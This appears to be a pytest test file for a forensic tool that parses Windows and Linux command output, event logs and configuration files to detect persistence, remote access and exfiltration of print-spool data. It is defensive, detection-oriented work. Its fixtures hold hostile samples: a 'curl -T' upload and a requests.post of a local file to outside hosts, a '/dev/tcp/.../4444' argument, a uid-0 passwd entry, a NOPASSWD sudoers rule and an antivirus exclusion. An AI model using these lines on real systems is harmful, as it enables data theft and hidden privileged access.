"""Output in any layout is read: delimited tables, columns, one property per line, HTML, events, Linux lists."""

import io
from datetime import datetime

import pytest

from waybillguard.events.shared import Finding
from waybillguard.sensor.evidence.clock import table_time
from waybillguard.sensor.evidence.reader import FileReader
from waybillguard.sensor.evidence.rows import block_rows, column_rows, shape_of
from waybillguard.sensor.evidence.source import Member
from waybillguard.sensor.examination import conclude
from waybillguard.sensor.observation import Observation


def _read(name: str, text: str, encoding: str = "utf-8") -> list[Observation]:
    data = text.encode(encoding)
    return list(FileReader(Member(name, len(data), lambda: io.BytesIO(data), year=2026)))


def _found(name: str, text: str) -> tuple[Finding, ...]:
    return conclude(_read(name, text))[0].findings


SERVICE = '\nName        : PrnHelper\nPathName    : "C:\\ProgramData\\PrnHelp\\ph.exe" -svc\nStartMode   : Auto\n\nName        : Spooler\nPathName    : C:\\Windows\\System32\\spoolsv.exe\nStartMode   : Auto\n'
COLUMNS = "\n  Id ProcessName   Path\n  -- -----------   ----\n1234 syncsvc       C:\\Users\\Public\\sync\\syncsvc.exe\n4321 微信          C:\\Program Files\\Tencent\\WeChat.exe\n"
WMIC = "Caption  CommandLine                      ExecutablePath       ProcessId\nx.exe    C:\\Users\\Public\\x.exe -c 1      C:\\Users\\Public\\x.exe  312\n"
HTML = "<html><table><tr><th>Process Name<th>Process ID<th>Local Port<th>Remote Address<th>Remote Port<th>State<th>Process Path\n<tr><td>q.exe<td>33<td>5<td>203.0.113.9<td>4444<td>Established<td>C:\\Users\\a\\AppData\\Roaming\\q\\q.exe</table>"


def test_a_table_in_columns_is_cut_where_its_head_stands_also_beside_wide_signs() -> None:
    rows = [row for _, row in column_rows(enumerate(COLUMNS.splitlines(), 1))]
    assert [row["path"] for row in rows] == [
        "C:\\Users\\Public\\sync\\syncsvc.exe",
        "C:\\Program Files\\Tencent\\WeChat.exe",
    ]
    assert [row["processname"] for row in rows] == ["syncsvc", "微信"]


def test_a_row_that_is_told_a_property_a_line_ends_where_a_property_comes_again() -> None:
    rows = [row for _, row in block_rows(enumerate(SERVICE.splitlines(), 1))]
    assert [row["name"] for row in rows] == ["PrnHelper", "Spooler"]


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        (SERVICE, "blocks"),
        (COLUMNS, "columns"),
        (WMIC, "columns"),
        ("Process Name\tRemote Address\nq\t1\n", "marked"),
        ("今天来了三个人。\n", ""),
    ],
)
def test_the_shape_of_a_text_is_told_by_its_lines(text: str, shape: str) -> None:
    assert shape_of(text) == shape


@pytest.mark.parametrize(
    ("name", "text", "kind", "word"),
    [
        ("svc.txt", SERVICE, "service", "c:\\programdata\\prnhelp\\ph.exe"),
        ("p.txt", COLUMNS, "program_run", "c:\\users\\public\\sync\\syncsvc.exe"),
        ("w.txt", WMIC, "program_run", "c:\\users\\public\\x.exe"),
        ("c.html", HTML, "connection", "203.0.113.9"),
        ("pf.log", "2026-11-10 22:11:01 ALLOW TCP 10.0.0.5 203.0.113.4 50000 21117 0 - 0 0 0 - - - SEND\n", "connection", "203.0.113.4"),
        ("pp.txt", "0.0.0.0         3390        127.0.0.1       3389\n", "port_forward", "0.0.0.0:3390 → 127.0.0.1:3389"),
        ("last.txt", "ab    pts/0        203.0.113.8      Tue Nov 10 22:14:05 2026 - Tue Nov 10 22:50:11 2026  (00:36)\n", "session", "203.0.113.8"),
        ("lsof.txt", "COMMAND PID USER FD TYPE DEVICE SIZE/OFF NODE NAME\nq 22 root 3r REG 8,1 12 55 /var/spool/cups/d00012-001\n", "print_access", "/var/spool/cups/d00012-001"),
        ("audit.log", 'type=EXECVE msg=audit(1762789445.123:501): argc=2 a0="scp" a1="u@203.0.113.9:/a"\n', "program_run", "scp u@203.0.113.9:/a"),
        ("ls.txt", "/usr/lib/cups/backend:\n-rwxr-xr-x 1 root root 300 Nov 10 22:30 zebra2\n", "print_filter", "/usr/lib/cups/backend/zebra2"),
        ("v.txt", "??5??????   /usr/lib/cups/backend/socket\n", "setting", "/usr/lib/cups/backend/socket"),
        ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nq:x:0:0::/:/bin/sh\n", "setting", "q (uid 0)"),
        ("sudoers.d/q", "q ALL=(ALL) NOPASSWD: ALL\n", "setting", "q: ALL"),
        ("dmesg.txt", "[Tue Nov 10 22:10:02 2026] rndis_host 1-2:1.0 usb0: register 'rndis_host' at usb\n", "posing_device", "rndis_host"),
        ("lp.txt", "device for Zebra: socket://203.0.113.8\n", "printer", "socket://203.0.113.8"),
        ("q.path", "[Path]\nPathModified=/var/spool/cups\nUnit=q.service\n", "service", "inotifywait /var/spool/cups → q.service"),
        ("incron/root", "/var/spool/cups IN_CLOSE_WRITE /usr/local/bin/q.sh $@\n", "task", "/usr/local/bin/q.sh"),
        ("q.convs", "application/a printer/b 0 zpl-copy\n", "print_filter", "zpl-copy"),
        ("quser.txt", " helper   rdp-tcp#3    2  运行中   .  2026/11/10 22:10\n", "session_start", "helper"),
        ("t.txt", "PS C:\\> vssadmin create shadow /for=C:\n", "script", "vssadmin create shadow /for=C:"),
        ("ip.txt", "   描述. . . : Remote NDIS based Internet Sharing Device\n", "posing_device", "RNDIS"),
        ("mp.txt", "ComputerID : 1\nDisableRealtimeMonitoring : False\nExclusionPath : {C:\\q}\n", "setting", "C:\\q"),
        ("osq.log", '{"name":"pack","columns":{"pid":"12","name":"a","path":"/opt/.x/a","cmdline":"/opt/.x/a -s 1"},"action":"added"}\n', "program_run", "/opt/.x/a"),
        ("re.csv", "KeyPath,ValueName,ValueData\nROOT\\ControlSet001\\Control\\Print\\Monitors\\Q,Driver,q.dll\n", "print_monitor", "q.dll"),
        ("pm.csv", '"Time of Day","Process Name","PID","Operation","Path"\n"1:00","q.exe","1","ReadFile","C:\\Windows\\System32\\spool\\PRINTERS\\00012.SPL"\n', "print_access", "q.exe"),
        ("h.csv", "URL,Title\nhttps://remotedesktop.google.com/a,x\n", "dns", "remotedesktop.google.com"),
        ("maps.txt", "7f0000000000-7f0000001000 r-xp 00000000 08:01 123 /opt/q/libq.so\n", "hook", "/opt/q/libq.so"),
        ("modprobe.d/q.conf", "install usblp /opt/q/q.sh\n", "autorun", "/opt/q/q.sh"),
        ("e.reg", 'Windows Registry Editor Version 5.00\n\n[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\q]\n"ImagePath"="C:\\\\q.exe"\n"FailureCommand"="C:\\\\a\\\\q.cmd"\n', "autorun", "c:\\a\\q.cmd"),
        ("a.txt", "2026-11-10 信任 D:\\tools\\q.exe\n", "setting", "D:\\tools\\q.exe"),
        ("s.txt", "100.101.22.8    q   a@   windows active\n", "setting", "100.101.22.8"),
        ("u.txt", "dpkg-query: no path found matching pattern /usr/lib/libq.so\n", "setting", "/usr/lib/libq.so"),
        ("vss.txt", "         类型: ClientAccessible\n", "setting", "ClientAccessible"),
        ("root.txt", "CN=mitmproxy, O=mitmproxy\n", "setting", "mitmproxy"),
        ("status.txt", "     CGroup: /system.slice/q.service\n             └─310 /usr/local/sbin/q -s 203.0.113.9\n", "program_run", "/usr/local/sbin/q -s 203.0.113.9"),
        ("ls.txt", "    目录: C:\\Users\\Public\n\n-a----        2026/11/10     22:10            123 q.exe\n", "program_seen", "c:\\users\\public\\q.exe"),
        ("n.reg", 'Windows Registry Editor Version 5.00\n\n[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\q\\Parameters]\n"Application"="C:\\\\ProgramData\\\\q\\\\q.exe"\n', "service", "c:\\programdata\\q\\q.exe"),
        ("d.txt", "[org/gnome/desktop/remote-access]\nenabled=true\nprompt-enabled=false\n", "setting", "prompt-enabled=false"),
    ],
)  # fmt: skip
def test_what_a_command_or_tool_printed_is_read(name: str, text: str, kind: str, word: str) -> None:
    seen = [each for each in _read(name, text) if each.kind == kind]
    assert any(
        word in (each.path, each.command, each.origin, each.origin_name, each.name, each.account)
        for each in seen
    )


EVENT_TEXT = "Event[0]:\n  Log Name: System\n  Source: Service Control Manager\n  Date: 2026-11-10T23:12:45.1230000Z\n  Event ID: 7045\n  Description: \n系统中安装了服务。\n\n服务名称:  q\n服务文件名:  C:\\q\\q.exe\n"
VIEWER = '级别,日期和时间,来源,事件 ID,任务类别\n信息,2026/11/10 23:12:45,Service Control Manager,7045,无,"系统中安装了服务。\n\n服务名称:  q\n服务文件名:  C:\\q\\q.exe"\n'
NO_PROVIDER = '"TimeCreated","Id","Message"\n"2026/11/10 22:11:00","4697","系统中安装了服务。\n\n服务信息:\n\t服务名称:\t\tq\n\t服务文件名:\t\tC:\\q\\q.exe\n"\n'


@pytest.mark.parametrize("text", [EVENT_TEXT, VIEWER, NO_PROVIDER])
def test_an_event_is_read_from_text_from_the_viewers_table_and_without_its_provider(text: str) -> None:
    (seen,) = _read("e.csv" if text != EVENT_TEXT else "e.txt", text)
    assert (seen.kind, seen.name, seen.path) == ("service_installed", "q", "c:\\q\\q.exe")


def test_a_printed_job_is_read_from_the_message_alone() -> None:
    text = '"TimeCreated","Id","ProviderName","Message"\n"2026/11/10 10:11:00","307","Microsoft-Windows-PrintService","Document 12, Print Document owned by ab on \\\\PC was printed on Zebra through port USB001.  Size in bytes: 34. Pages printed: 1. No user action is required."\n'
    (seen,) = _read("e.csv", text)
    assert (seen.kind, seen.name, seen.command, seen.account) == ("document_printed", "Zebra", "USB001", "ab")


def test_an_exclusion_of_the_antivirus_is_read_from_its_own_log() -> None:
    text = '"TimeCreated","Id","ProviderName","Message"\n"2026/11/10 10:11:00","5007","Microsoft-Windows-Windows Defender","配置已更改。\n 新值: HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\q = 0x0"\n'
    assert [each.command for each in _read("d.csv", text)] == ["C:\\q"]


def test_a_program_that_starts_by_itself_and_is_told_an_address_outside_is_told_once() -> None:
    found = _found("q.service", "[Service]\nExecStart=/usr/local/bin/q -s 203.0.113.9:7000\n")
    assert [(each.kind, each.severity, each.source) for each in found] == [
        ("address_outside", "medium", "203.0.113.9")
    ]
    assert _found("r.service", "[Service]\nExecStart=/usr/local/bin/q -s 192.168.1.9:7000\n") == ()


def test_a_program_in_a_hidden_place_is_told_low_and_steps_back_for_a_rule_that_knows_more() -> None:
    listed = "Path,Verified\nC:\\Users\\Public\\q.exe,Unsigned\n"
    assert [(each.kind, each.severity) for each in _found("s.csv", listed)] == [("hidden_program", "low")]
    posing = listed.replace("q.exe", "svchost.exe")
    assert [each.kind for each in _found("s.csv", posing)] == ["borrowed_name"]


def test_settings_that_name_the_spool_or_record_prints_are_told_and_graver_with_a_server_outside() -> None:
    pair = "<Pair><Left>C:\\Windows\\System32\\spool\\PRINTERS</Left><Right>{}</Right></Pair>"
    assert [(each.kind, each.severity) for each in _found("a.xml", pair.format("D:\\b"))] == [
        ("names_spool", "low")
    ]
    sent = _found("a.xml", pair.format("sftp://u@203.0.113.9:22/in"))
    assert ("names_spool", "medium") in [(each.kind, each.severity) for each in sent]
    assert [(each.kind, each.severity) for each in _found("a.ini", "[x]\nPrintRecord=1\n")] == [
        ("records_work", "low")
    ]
    assert _found("a.ini", "[x]\nPrintRecord=0\n") == ()


def test_a_script_whose_address_stands_in_another_line_than_its_sending_is_told() -> None:
    text = 'import requests\nU = "https://up.q.top/u"\nrequests.post(U, files={"f": open("/srv/labels/a", "rb")})\n'
    assert "copies_outside" in [each.kind for each in _found("w.py", text)]


def test_a_copy_of_the_spool_that_sysmon_saw_names_its_program() -> None:
    event = "<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>11</EventID><TimeCreated SystemTime='2026-11-10T02:00:00Z'/></System><EventData><Data Name='Image'>C:\\q\\q.exe</Data><Data Name='TargetFilename'>D:\\c\\00012.SPL</Data></EventData></Event>"
    assert [(each.kind, each.severity, each.tool) for each in _found("s.xml", event)] == [
        ("print_store_access", "medium", "q.exe")
    ]


def test_a_session_of_a_desktops_own_sharing_in_a_journal_with_chinese_months_is_joined() -> None:
    text = "11月 12 23:19:47 pc vino-server[26]: 12/11/2026 23:19:47 [IPv4] Got connection from client 10.0.0.8\n11月 12 23:44:20 pc vino-server[26]: Client 10.0.0.8 gone\n"
    (session,) = conclude(_read("journal.txt", text))[0].sessions
    assert (session.origin, session.start.isoformat()) == ("10.0.0.8", "2026-11-12T15:19:47+00:00")
    assert session.end is not None


_HOSTILE = {
    "svc.txt": SERVICE + "\n" * 200_000,
    "message.txt": SERVICE + "a\n" * 100_000,
    "a.html": "<html><table>" + "<td " * 100_000,
    "note.txt": ("spool " + "a" * 3_900 + "\n") * 50,
    "handle.txt": "q.exe  pid: 1  4C: C:\\Windows\\System32\\spool\\PRINTERS\\1.SPL\nq" + " " * 60_000 + "\n",
    "pf.log": "2026-11-10 22:11:01 ALLOW TCP 10.0.0.5 203.0.113.4 1 2 0" + " " * 60_000 + "x\n",
    "e.txt": EVENT_TEXT + "a" * 60_000 + "\n",
}


@pytest.mark.parametrize("name", _HOSTILE)
def test_a_text_that_is_laid_out_to_be_slow_is_read_to_its_end(name: str) -> None:
    # With a quadratic expression each of these takes minutes, and the child process would be given up.
    data = _HOSTILE[name].encode()
    reader = FileReader(Member(name, len(data), lambda: io.BytesIO(data), year=2026))
    list(reader)
    assert reader.told.losses == []


def test_what_stands_behind_more_programs_than_are_named_is_read_too() -> None:
    text = "C:\\tools\\q.exe\n" * 20_001 + "2026-11-10 信任 D:\\tools\\p.exe\n"
    assert [each.command for each in _read("a.txt", text) if each.kind == "setting"] == ["D:\\tools\\p.exe"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("s.json", '[{"Command":"","Location":"Startup","Caption":"a"},{"Name":"b","PathName":"C:\\\\q\\\\q.exe"}]'),
        ("c.json", '[{"command":" ","minute":"1"},{"Name":"b","PathName":"C:\\\\q\\\\q.exe"}]'),
        ("etc/passwd", f"root:x:0:0::/:/bin/sh\na:x:{'1' * 5000}:0::/:/bin/sh\nb:x:0:0::/:/bin/sh\n"),
        ("audit.log", 'type=EXECVE msg=audit(99999999999999.1:1): a0="b" a1="203.0.113.9"\ntype=EXECVE msg=audit(1762789445.1:2): a0="b" a1="203.0.113.9"\n'),
    ],
)  # fmt: skip
def test_a_cell_that_is_empty_or_too_large_does_not_end_the_reading(name: str, text: str) -> None:
    assert any(each.name.startswith(("b", "odd")) for each in _read(name, text))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("u.py", 'import q\nURL = "http://203.0.113.9/u"\nKEY = "a"\nFILENAME = "/srv/a"\nq(URL)\n'),
        ("u", '#!/bin/sh\nURL=http://203.0.113.9/u\nKEY=a\nFILENAME=b\ncurl -T "$FILENAME" $URL\n'),
        ("p.user.js", '// ==UserScript==\nx = "<table>"\nfetch("http://203.0.113.9/u")\n'),
    ],
)
def test_a_script_with_settings_or_html_in_it_stays_a_script(name: str, text: str) -> None:
    data = text.encode()
    reader = FileReader(Member(name, len(data), lambda: io.BytesIO(data), year=2026))
    list(reader)
    assert reader.told.read.kind in {"script", "user_script"}


def test_numbers_that_only_look_like_addresses_or_forwards_are_not_told() -> None:
    unit = "[Service]\nExecStart=/usr/local/bin/q {}\n"
    versions = "--module C:\\a\\13.1.5.188\\q --tag v1.2.3.4 q-3.9.5.81"
    assert "address_outside" not in [each.kind for each in _found("r.service", unit.format(versions))]
    assert _found("s.service", unit.format("/dev/tcp/203.0.113.9/4444")) != ()
    assert _read("stat.txt", "192.168.1.5  1234  5678  90\n") == []


def test_the_name_of_a_makers_router_is_no_phones_and_a_phones_network_is_no_keyboard() -> None:
    head = '"TimeCreated","Id","ProviderName","Message"\n"2026/11/10 05:00:00","8001","Microsoft-Windows-WLAN-AutoConfig","x\n SSID: {}\n"\n"2026/11/10 05:01:00","4688","Microsoft-Windows-Security-Auditing","x\n 新进程名称: C:\\Users\\Public\\q.exe\n"\n'
    assert [each for each in _read("w.csv", head.format("HUAWEI-1A2B")) if each.kind == "posing_device"] == []
    (told,) = [each for each in _found("w.csv", head.format("HUAWEI P40")) if each.kind == "typing_device"]
    assert told.severity != "high"


def test_the_time_of_an_event_with_a_zone_keeps_it_and_that_of_wevtutil_is_local() -> None:
    text = NO_PROVIDER.replace("2026/11/10 22:11:00", "2026-11-10T22:11:00.5Z")
    (seen,), (local,) = _read("e.csv", text), _read("e.txt", EVENT_TEXT)
    assert seen.time is not None
    assert seen.time.tzinfo is not None
    assert local.time is not None
    assert local.time.tzinfo is None


def test_units_in_one_file_are_told_apart() -> None:
    text = "# /etc/systemd/system/a.service\n[Service]\nExecStart=/opt/a 203.0.113.9\n# /etc/systemd/system/b.service\n[Service]\nExecStart=/opt/b 203.0.113.9\n"
    seen = _read("units.txt", text)
    assert {(each.file, each.record) for each in seen} == {
        ("units.txt", "/etc/systemd/system/a.service ExecStart"),
        ("units.txt", "/etc/systemd/system/b.service ExecStart"),
    }


def test_only_a_certificate_is_the_root_of_an_interceptor() -> None:
    assert _read("pip.txt", "mitmproxy 10.1\n") == []
    assert _read("a.txt", "untrusted C:\\q\\q.exe\n") == _read("b.txt", "known C:\\q\\q.exe\n")


def test_a_host_that_a_note_names_is_said_to_be_named_and_raises_nothing() -> None:
    (named,) = _found("note.txt", "下载地址 www.todesk.com 备用，没有安装。\n")
    assert (named.tool, named.severity) == ("ToDesk", "low")
    assert "文字中提到" in named.detail_zh
    assert "no other trace" in named.detail_en
    installed = _read(
        "sc.json", '[{"Name": "ToDesk_Service", "PathName": "C:\\\\Program Files\\\\ToDesk\\\\ToDesk.exe"}]'
    )
    alone, beside = (
        next(each for each in conclude(seen)[0].findings if each.tool == "ToDesk")
        for seen in (installed, [*installed, *_read("note.txt", "见 www.todesk.com\n")])
    )
    assert beside.severity == alone.severity
    assert beside.detail_zh == alone.detail_zh


@pytest.mark.parametrize(
    "text",
    [
        "2026/3/10 14:14:33",
        "2026/3/10 下午 2:14:33",
        "下午 2:14:33 2026/3/10",
        "2026/3/10 周二 14:14:33",
        "2026年3月10日 14:14:33",
        "2026-3-10 14:14:33",
        "2026.3.10 14:14:33",
        "2026/03/10 14:14:33.123",
        "3/10/2026 2:14:33 PM",
    ],
)
def test_a_time_is_read_as_chinese_windows_writes_it(text: str) -> None:
    assert table_time(text) == datetime(2026, 3, 10, 14, 14, 33)  # noqa: DTZ001 - local time
    assert table_time("2026/3/10 上午 12:05:00") == datetime(2026, 3, 10, 0, 5)  # noqa: DTZ001


def test_a_door_is_told_with_the_time_a_spreadsheet_gives_it() -> None:
    text = "刷卡时间,门\n2026/3/10 2:14,打单室\n"
    assert [seen.time for seen in _read("门禁.csv", text)] == [datetime(2026, 3, 10, 2, 14)]  # noqa: DTZ001
